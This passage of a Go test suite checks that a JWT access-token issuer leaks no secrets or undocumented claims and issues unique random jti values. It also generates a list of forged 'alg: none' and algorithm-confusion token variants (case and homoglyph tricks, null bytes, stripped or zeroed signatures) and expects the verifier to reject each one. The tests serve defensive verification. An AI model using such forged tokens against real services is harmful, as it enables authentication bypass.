		t.Fatal(err)
	}
	return claims
}

// What stands in a token can be read by whoever sees it. So there is only what the
// documentation names, and nothing personal besides the user's name and address;
// and its jti says nothing and is never the same.
func attackContent(t *testing.T, k attackKeys) {
	inn := innkeepertest.New(t, nil)
	inn.AddUser("ada", "mail:read")
	documented := []string{
		"amr", "aud", "auth_time", "client_id", "email", "epoch", "exp", "iat", "iss", "jti", "permissions", "roles", "sid", "sub", "username",
	}
	ids := map[string]bool{}
	session := inn.SignIn("ada")
	for range 20 {
		claims := members(t, session.AccessToken)
		if got := slices.Sorted(maps.Keys(claims)); !slices.Equal(got, documented) {
			t.Fatalf("claims %q, documented are %q", got, documented)
		}
		var id string
		if err := json.Unmarshal(claims["jti"], &id); err != nil {
			t.Fatal(err)
		}
		random, err := base64.RawURLEncoding.DecodeString(id)
		if err != nil || len(random) < 16 || ids[id] || string(claims["jti"]) == string(claims["sid"]) {
			t.Errorf("jti %q is not 128 random bits of its own: %v", id, err)
		}
		ids[id] = true
		for name, value := range claims {
			if found := innkeepertest.FindSecrets(string(value)); found != nil {
				t.Errorf("claim %s holds %q", name, found)
			}
			for _, secret := range []string{innkeepertest.Password, session.RefreshToken, "127.0.0.1\"", "argon2"} {
				if strings.Contains(string(value), secret) {
					t.Errorf("claim %s holds %q", name, secret)
				}
			}
		}
		session = inn.Refresh(session)
	}

	// Whatever is not known of a user leaves no trace, and no token lacks a jti.
	claims := fullClaims()
	claims.Email, claims.Username, claims.Roles, claims.Permissions = "", "", nil, nil
	token, err := accesstoken.Sign(k.ed.SigningKey, claims)
	if err != nil {
		t.Fatal(err)
	}
	for name := range members(t, token) {
		if slices.Contains([]string{"email", "username", "roles", "permissions"}, name) {
			t.Errorf("%s is there, and empty", name)
		}
	}
	claims.ID = ""
	if _, err := accesstoken.Sign(k.ed.SigningKey, claims); !errors.Is(err, accesstoken.ErrClaims) {
		t.Errorf("without jti: %v, want ErrClaims", err)
	}
}

// Also in TestAlgorithmConfusion.
func attackNone(t *testing.T, k attackKeys) {
	k.each(t, func(key issuerKey) []attack {
		var algs []string
		for bits := range 16 { // none, nonE, noNe … NONE
			word := []byte("none")
			for i := range word {
				if bits>>i&1 == 1 {
					word[i] -= 'a' - 'A'
				}
			}
			algs = append(algs, quote(string(word)))
		}
		algs = append(algs, "", `""`, `null`, `false`, `0`, `[]`, `{}`, `["none"]`, `"none "`, `" none"`, `"none\u0000"`, `"\tnone"`, `"nоne"`, `"n\u006fne"`,
			`"HS256"`, `"HS384"`, `"HS512"`, `"RS384"`, `"RS512"`, `"PS256"`, `"PS384"`, `"PS512"`, `"ES384"`, `"ES512"`, `"ES256K"`, `"Ed25519"`, `"Ed448"`,
			`"ML-DSA-44"`, `"RS1"`, quote(strings.ToLower(string(key.Algorithm()))), quote(string(key.Algorithm())+" "), quote(string(key.Algorithm())+"\x00"))
		var attacks []attack
		for _, alg := range algs {
			header := key.head("alg", alg)
			signed := key.sign(t, header, payload(t, nil))
			attacks = append(attacks,
				attack{alg + " signed", signed, accesstoken.ErrMalformed},
				attack{alg + " with no signature", withSignature(signed, nil), accesstoken.ErrMalformed},
				attack{alg + " with zeros", withSignature(signed, make([]byte, 64)), accesstoken.ErrMalformed},
				attack{alg + " with no last segment", signed[:strings.LastIndexByte(signed, '.')], accesstoken.ErrMalformed})
		}
		return attacks
	})
}
